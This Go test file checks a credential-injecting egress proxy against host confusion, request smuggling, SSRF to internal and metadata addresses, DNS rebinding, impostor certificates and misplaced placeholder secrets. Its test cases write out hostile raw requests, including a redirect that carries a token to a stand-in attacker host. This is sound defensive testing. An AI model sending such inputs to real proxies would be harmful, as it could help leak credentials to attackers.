package proxy

import (
	"context"
	"io"
	"net/http"
	"net/http/httptest"
	"net/netip"
	"strings"
	"testing"

	"github.com/apiauth/apiauth/internal/secret"
)

// confusionRig has the pinned host, another tenant of the same provider's
// domain, and a foreign host, all of which record what arrives.
func confusionRig(t *testing.T) *egressRig {
	r := newEgressRig(t)
	for _, host := range []string{apiHost, secondHost, tenantHost, evilHost} {
		r.serve(host, echoing())
	}
	r.start()
	return r
}

const (
	connectTo = "CONNECT {host}:443 HTTP/1.1\r\nHost: {host}:443\r\n{auth}\r\n\r\n"
	withToken = "Authorization: Bearer " + testPlaceholder + "\r\nConnection: close\r\n\r\n"
)

// Whatever a child does to confuse the proxy about the host, no other host
// receives a token.
func TestHostConfusion(t *testing.T) {
	connect := func(host string) string { return strings.ReplaceAll(connectTo, "{host}", host) }
	for _, tt := range []struct {
		name             string
		first, sni, then string
		status           int
		message          string
	}{
		{"the right way", connect(apiHost), apiHost, "GET /me HTTP/1.1\r\nHost: " + apiHost + "\r\n" + withToken, 200, ""},
		{"with port, dot and capitals", connect("API.Example.com."), apiHost, "GET /me HTTP/1.1\r\nHost: API.example.COM:443\r\n" + withToken, 200, ""},
		{"Host is another than the target", connect(apiHost), apiHost, "GET / HTTP/1.1\r\nHost: " + evilHost + "\r\n" + withToken, 421, "not that of the tunnel"},
		{"Host is another pinned host", connect(apiHost), apiHost, "GET / HTTP/1.1\r\nHost: " + secondHost + "\r\n" + withToken, 421, ""},
		{"foreign target, pinned Host", connect(evilHost), evilHost, "GET / HTTP/1.1\r\nHost: " + apiHost + "\r\n" + withToken, 200, ""},
		{"absolute address in a tunnel", connect(apiHost), apiHost, "GET https://" + evilHost + "/ HTTP/1.1\r\nHost: " + apiHost + "\r\n" + withToken, 400, "names a path and no address"},
		{"absolute address of the same host", connect(apiHost), apiHost, "GET https://" + apiHost + "/ HTTP/1.1\r\nHost: " + evilHost + "\r\n" + withToken, 400, ""},
		{"a tunnel in a tunnel", connect(apiHost), apiHost, "CONNECT /me HTTP/1.1\r\nHost: " + apiHost + "\r\n" + withToken, 400, "names a path and no address"},
		{"absolute address, http", "GET http://" + evilHost + "/ HTTP/1.1\r\nHost: " + apiHost + "\r\n{auth}\r\n" + withToken, "-", "", 502, ""},
		{"pinned host over http", "GET http://" + apiHost + "/ HTTP/1.1\r\nHost: " + apiHost + "\r\n{auth}\r\n" + withToken, "-", "", 502, ""},
		{"pinned host over http at 443", "GET http://" + apiHost + ":443/ HTTP/1.1\r\nHost: " + apiHost + "\r\n{auth}\r\n" + withToken, "-", "", 403, "over https only"},
		{"user information", "GET http://" + apiHost + "@" + evilHost + "/ HTTP/1.1\r\nHost: " + apiHost + "\r\n{auth}\r\n" + withToken, "-", "", 400, "no plain host"},
		{"user information in CONNECT", "CONNECT " + apiHost + "@" + evilHost + ":443 HTTP/1.1\r\nHost: x\r\n{auth}\r\n\r\n", "x", "", 400, "plain host and a port"},
		{"user information in Host", connect(apiHost), apiHost, "GET / HTTP/1.1\r\nHost: " + apiHost + "@" + evilHost + "\r\n" + withToken, 400, "Host"},
		{"two Host headers", connect(apiHost), apiHost, "GET / HTTP/1.1\r\nHost: " + apiHost + "\r\nHost: " + evilHost + "\r\n" + withToken, 400, ""},
		{"no Host header", connect(apiHost), apiHost, "GET / HTTP/1.1\r\n" + withToken, 400, ""},
		{"two hosts in one header", connect(apiHost), apiHost, "GET / HTTP/1.1\r\nHost: " + apiHost + ", " + evilHost + "\r\n" + withToken, 400, ""},
		{"the TLS name is another", connect(apiHost), evilHost, "GET / HTTP/1.1\r\nHost: " + apiHost + "\r\n" + withToken, 421, "TLS handshake"},
		{"the TLS name and Host are another", connect(apiHost), evilHost, "GET / HTTP/1.1\r\nHost: " + evilHost + "\r\n" + withToken, 421, ""},
		{"foreign target with a pinned TLS name", connect(evilHost), apiHost, "GET / HTTP/1.1\r\nHost: " + apiHost + "\r\n" + withToken, 200, ""},
		{"http inside of the tunnel", connect(apiHost), "clear", "GET / HTTP/1.1\r\nHost: " + apiHost + "\r\n" + withToken, 403, "over https only"},
		{"no host in the Host", connect(apiHost), apiHost, "GET / HTTP/1.1\r\nHost: \r\n" + withToken, 400, "not a plain host"},
		{"another tenant of the provider", connect(tenantHost), tenantHost, "GET / HTTP/1.1\r\nHost: " + tenantHost + "\r\n" + withToken, 200, ""},
		{"another tenant's Host", connect(apiHost), apiHost, "GET / HTTP/1.1\r\nHost: " + tenantHost + "\r\n" + withToken, 421, ""},
		{"another port", "CONNECT " + apiHost + ":8443 HTTP/1.1\r\nHost: x\r\n{auth}\r\n\r\n", apiHost, "", 502, ""},
		{"a host that ends like the pinned one", connect("evil" + apiHost), "x", "", 502, ""},
		{"a host that begins like the pinned one", connect(apiHost + "." + evilHost), "x", "", 502, ""},
		{"CONNECT without a port", "CONNECT " + apiHost + " HTTP/1.1\r\nHost: x\r\n{auth}\r\n\r\n", "x", "", 400, ""},
		{"CONNECT to a path", "CONNECT /" + apiHost + " HTTP/1.1\r\nHost: x\r\n{auth}\r\n\r\n", "x", "", 400, ""},
		{"a second request in the head", connect(apiHost), apiHost, "GET / HTTP/1.1\r\nHost: " + apiHost + "\r\nX: a\rHost: " + evilHost + "\r\n" + withToken, 400, ""},
		{"length and chunks", connect(apiHost), apiHost, "POST / HTTP/1.1\r\nHost: " + apiHost + "\r\nContent-Length: 4\r\nTransfer-Encoding: chunked\r\nConnection: close\r\n\r\n0\r\n\r\n", 200, ""},
		{"two lengths", connect(apiHost), apiHost, "POST / HTTP/1.1\r\nHost: " + apiHost + "\r\nContent-Length: 4\r\nContent-Length: 5\r\n" + withToken + "abcde", 400, ""},
	} {
		t.Run(tt.name, func(t *testing.T) {
			r := confusionRig(t)
			status, body := r.raw(tt.first, tt.sni, tt.then)
			if status != tt.status || !strings.Contains(body, tt.message) {
				t.Errorf("got %d %q, want %d %q", status, body, tt.status, tt.message)
			}
			r.onlyAt(apiHost)
			if got := strings.Contains(r.arrived(apiHost), testToken); got != (tt.status == 200 && strings.HasPrefix(strings.ToLower(tt.first), "connect api.") && strings.Contains(tt.then, "Bearer")) {
				t.Errorf("the token arrived at its host: %v", got)
			}
			if strings.Contains(r.arrived(apiHost), testPlaceholder) {
				t.Error("a placeholder was passed on to a pinned host")
			}
		})
	}
}

// In HTTP/2 :authority names the host, and a field named host may come beside it:
// both must say the same.
func TestAuthorityAndHost(t *testing.T) {
	r := confusionRig(t)
	for host, want := range map[string]int{"": 200, apiHost: 200, "API.example.com:443": 200, evilHost: 400, apiHost + "@" + evilHost: 400} {
		req := httptest.NewRequestWithContext(t.Context(), http.MethodGet, "/me", nil)
		req.Host = apiHost
		if host != "" {
			req.Header["Host"] = []string{host}
		}
		w := httptest.NewRecorder()
		if ok := r.egress.agrees(w, req, r.egress.sites[apiHost], "https"); ok != (want == 200) || w.Code != want {
			t.Errorf("host %q: %v, %d", host, ok, w.Code)
		}
	}
}

// A redirect is the child's to follow, and its placeholder is worth nothing
// elsewhere.
func TestRedirectIsPassedOn(t *testing.T) {
	r := newEgressRig(t)
	r.serve(apiHost, http.HandlerFunc(func(w http.ResponseWriter, req *http.Request) {
		http.Redirect(w, req, "https://"+evilHost+"/stolen?was="+strings.TrimPrefix(req.Header.Get("Authorization"), "Bearer "), http.StatusTemporaryRedirect)
	}))
	r.serve(evilHost, echoing())
	r.start()
	c := r.client(false)
	c.CheckRedirect = func(req *http.Request, via []*http.Request) error {
		req.Header.Set("Authorization", via[0].Header.Get("Authorization"))
		return nil
	}
	got := r.send(c, "GET", "https://"+apiHost+"/", nil, "Authorization: Bearer "+testPlaceholder)
	if got.StatusCode != 200 || !strings.Contains(r.arrived(evilHost), testPlaceholder) {
		t.Fatalf("the child's own redirect ended with %d", got.StatusCode)
	}
	r.onlyAt(apiHost)
}

// A name whose address changes between looking and dialling, or that leads into
// the machine's own network, gets no token.
func TestAddressesThatGetNoToken(t *testing.T) {
	for _, tt := range []struct {
		address string
		allowed bool
	}{
		{"127.0.0.1", false}, {"127.9.9.9", false}, {"::1", false}, {"0.0.0.0", false}, {"::", false}, {"::ffff:127.0.0.1", false},
		{"10.0.0.1", false}, {"172.16.5.4", false}, {"192.168.1.1", false}, {"100.64.0.1", false}, {"fd00:ec2::254", false}, {"fc00::1", false},
		{"169.254.169.254", false}, {"fe80::1", false}, {"224.0.0.1", false}, {"ff02::1", false}, {"255.255.255.255", false},
		{"192.0.0.192", false}, {"198.18.0.1", false}, {"64:ff9b::a9fe:a9fe", false}, {"2002:7f00:1::", false}, {"fec0::1", false},
		{"203.0.113.7", true}, {"64:ff9b::cb00:7107", true}, {"2600::1", true},
	} {
		r := newEgressRig(t)
		r.serve(apiHost, echoing())
		address := netip.MustParseAddr(tt.address)
		real := r.places[r.names[apiHost][0].String()+":443"]
		r.names[apiHost] = []netip.Addr{netip.MustParseAddr("203.0.113.250"), address}
		r.places = map[string]string{}
		for _, a := range r.names[apiHost] {
			r.places[netip.AddrPortFrom(a.Unmap(), 443).String()] = real
		}
		r.start()
		got := r.send(r.client(false), "GET", "https://"+apiHost+"/", nil, "Authorization: Bearer "+testPlaceholder)
		if (got.StatusCode == 200) != tt.allowed || !tt.allowed && got.StatusCode != 403 {
			t.Errorf("%s: %d %s", tt.address, got.StatusCode, got.body)
		}
		if !tt.allowed && (r.arrived(apiHost) != "" || len(r.dialed) > 0) {
			t.Errorf("%s was dialled", tt.address)
		}
	}
}

// What was looked at is what is dialled: a second answer of the resolver has no
// say.
func TestRebinding(t *testing.T) {
	r := newEgressRig(t)
	r.serve(apiHost, echoing())
	asked := 0
	first := r.options.Resolve
	r.options.Resolve = func(ctx context.Context, network, host string) ([]netip.Addr, error) {
		if asked++; asked > 1 {
			return []netip.Addr{netip.MustParseAddr("127.0.0.1")}, nil
		}
		return first(ctx, network, host)
	}
	r.start()
	got := r.send(r.client(false), "GET", "https://"+apiHost+"/", nil, "Authorization: Bearer "+testPlaceholder)
	if got.StatusCode != 200 || asked != 1 || len(r.dialed) != 1 || !strings.HasPrefix(r.dialed[0], "203.0.113.") {
		t.Errorf("status %d; looked up %d times, dialled %q", got.StatusCode, asked, r.dialed)
	}
}

// The certificate decides who an address is: a machine that only answers there
// gets nothing.
func TestImpostorGetsNothing(t *testing.T) {
	r := newEgressRig(t)
	impostor := r.serve(evilHost, echoing())
	r.place(apiHost, "443", impostor.Listener.Addr().String())
	r.start()
	got := r.send(r.client(false), "GET", "https://"+apiHost+"/", nil, "Authorization: Bearer "+testPlaceholder)
	if got.StatusCode != 502 || !strings.Contains(got.body, "certificate") {
		t.Errorf("%d %s", got.StatusCode, got.body)
	}
	r.onlyAt()
}

// A placeholder anywhere but in its place is refused, with a word on where it
// stood.
func TestMisplacedPlaceholders(t *testing.T) {
	auth := "Authorization: Bearer " + testPlaceholder
	other := "ph_" + strings.Repeat("Xy7", 10)
	big := strings.Repeat("0123456789abcdef", 8<<10) // more than is read at once
	for _, tt := range []struct {
		name    string
		path    string
		body    string
		headers []string
		where   string
	}{
		{"query", "/?key=" + testPlaceholder, "", nil, "the query"},
		{"query, escaped", "/?key=" + strings.ReplaceAll(testPlaceholder, "ph29.", "%70h29%2E"), "", nil, "the query"},
		{"query, beside the right place", "/?key=" + testPlaceholder, "", []string{auth}, "the query"},
		{"path", "/x/" + testPlaceholder, "", []string{auth}, "the path"},
		{"path, escaped", "/x/%70h29%2e" + testPlaceholder[5:], "", nil, "the path"},
		{"body", "/", "token=" + testPlaceholder, []string{auth}, "the body"},
		{"body, base64", "/", writings(testPlaceholder)["base64 a"], nil, "the body"},
		{"end of a large body", "/", big + testPlaceholder, []string{auth}, "the body"},
		{"another header", "/", "", []string{"X-Api-Key: " + testPlaceholder}, "the header X-Api-Key"},
		{"another header, beside the right place", "/", "", []string{auth, "X-Api-Key: a" + testPlaceholder}, "the header X-Api-Key"},
		{"cookie", "/", "", []string{"Cookie: session=" + testPlaceholder}, "the header Cookie"},
		{"referer", "/", "", []string{"Referer: https://x/?t=" + testPlaceholder}, "the header Referer"},
		{"twice in the header", "/", "", []string{auth, auth}, "the header Authorization"},
		{"twice in one value", "/", "", []string{auth + testPlaceholder}, "the header Authorization"},
		{"not alone in its place", "/", "", []string{"Authorization: Bearer x" + testPlaceholder}, "the header Authorization"},
		{"both halves of Basic", "/", "", []string{"Authorization: Basic " + basic(testPlaceholder, testPlaceholder)}, "the header Authorization"},
		{"a part of Basic", "/", "", []string{"Authorization: Basic " + basic("me", "x"+testPlaceholder)}, "the header Authorization"},
		{"another connection's", "/", "", []string{"Authorization: Bearer " + other}, "it is for other hosts"},
		{"another connection's, in the body", "/", other, []string{auth}, "it is for other hosts"},
	} {
		for _, h2 := range []bool{false, true} {
			r := newEgressRig(t)
			r.options.Targets = append(r.options.Targets, Target{Connection: "other", Hosts: []string{evilHost}, Auth: bearer(), Placeholder: secret.New(other)})
			r.serve(apiHost, echoing())
			r.start()
			method, body := "GET", io.Reader(nil)
			if tt.body != "" {
				method, body = "POST", strings.NewReader(tt.body)
			}
			got := r.send(r.client(h2), method, "https://"+apiHost+tt.path, body, tt.headers...)
			if got.StatusCode != 403 || !strings.Contains(got.body, tt.where) {
				t.Errorf("%s, http2 %v: %d %.300q, want a word on %s", tt.name, h2, got.StatusCode, got.body, tt.where)
			}
			m := newMatcher([]string{testPlaceholder, other})
			if m.contains([]byte(r.arrived(apiHost))) != nil {
				t.Errorf("%s, http2 %v: the placeholder was passed on", tt.name, h2)
			}
			if strings.Contains(got.body, testPlaceholder) || strings.Contains(r.logged(), testPlaceholder) {
				t.Errorf("%s: the message repeats the placeholder", tt.name)
			}
			r.onlyAt(apiHost)
		}
	}
}
